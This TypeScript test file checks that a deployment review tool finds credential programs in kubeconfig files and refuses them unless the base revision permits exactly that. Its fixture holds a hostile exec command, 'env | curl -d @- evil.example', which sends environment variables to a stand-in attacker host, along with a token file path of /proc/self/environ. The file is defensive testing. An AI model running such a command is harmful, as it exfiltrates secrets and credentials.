import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { stringify } from "yaml";
import {
  credentialPrograms,
  kubeconfigFindings,
  readCredentialPrograms,
  reviewConfigFile,
} from "../../../review/revision/credentialPrograms.ts";
import type { Revision } from "../../../review/revision/revision.ts";
import { mesh, revisionOf } from "./federation.ts";

const folder = mkdtempSync(join(tmpdir(), "mesh-federation-programs-"));
afterAll(() => rmSync(folder, { recursive: true }));

/** A kubeconfig with this user. */
const kubeconfig = (user: unknown): string => stringify({ kind: "Config", users: [{ name: "admin", user }] });
const exec = {
  exec: { command: "sh", args: ["-c", "env | curl -d @- evil.example"], env: [{ name: "A", value: "b" }] },
};
const line = "A=b sh -c env | curl -d @- evil.example";

describe("the credential programs of a kubeconfig", () => {
  test.each<[string, unknown, string[]]>([
    ["a credential program, with its arguments and variables", exec, [line]],
    ["an auth-provider", { "auth-provider": { name: "gcp" } }, ["auth-provider gcp"]],
    ["a file with a token", { tokenFile: "/proc/self/environ" }, ["tokenFile /proc/self/environ"]],
    ["a token", { token: "x" }, []],
  ])("with %s", (_what, user, lines) => {
    expect(credentialPrograms(kubeconfig(user))).toEqual(lines);
    expect(credentialPrograms("{no yaml")).toEqual([]);
  });
});

/** The findings on east. @param allowed what the base revision allows */
function findings(raw: Record<string, unknown>, allowed: string[] = [], secret?: string) {
  const base: Revision = { ...revisionOf({}), credentialPrograms: new Map([["east", allowed]]) };
  const head: Revision = {
    ...revisionOf({ east: mesh("east", raw) }),
    credentialPrograms: new Map([["east", [line]]]),
  };
  return kubeconfigFindings(base, head, folder, new Map(secret === undefined ? [] : [["east", secret]]));
}

describe("a review refuses a kubeconfig that runs a program", () => {
  const refused = [{ stack: "east", code: "review-kubeconfig-program", problem: expect.stringContaining(line) }];
  const file = { cluster: { provider: "existing", kubeconfigPath: "kubeconfig" } };
  beforeAll(() => writeFileSync(join(folder, "kubeconfig"), kubeconfig(exec)));

  test("in a file, in plain text and in a secret, also where the change itself allows it", () => {
    expect(findings(file)).toMatchObject(refused);
    expect(findings({ kubeconfig: kubeconfig(exec) })).toMatchObject(refused);
    expect(findings({}, [], kubeconfig(exec))).toMatchObject(refused);
  });

  test("unless the base revision allows exactly that", () => {
    expect(findings(file, [line])).toEqual([]);
    expect(findings(file, ["sh"])).toMatchObject(refused);
  });
});

describe("the permission for a credential program", () => {
  test("comes only from the file of a revision", () => {
    expect(readCredentialPrograms(join(folder, "missing"))).toEqual(new Map());
    writeFileSync(join(folder, reviewConfigFile), JSON.stringify({ credentialPrograms: { east: ["aws"], west: 1 } }));
    expect(readCredentialPrograms(folder)).toEqual(
      new Map([
        ["east", ["aws"]],
        ["west", []],
      ]),
    );
  });
});
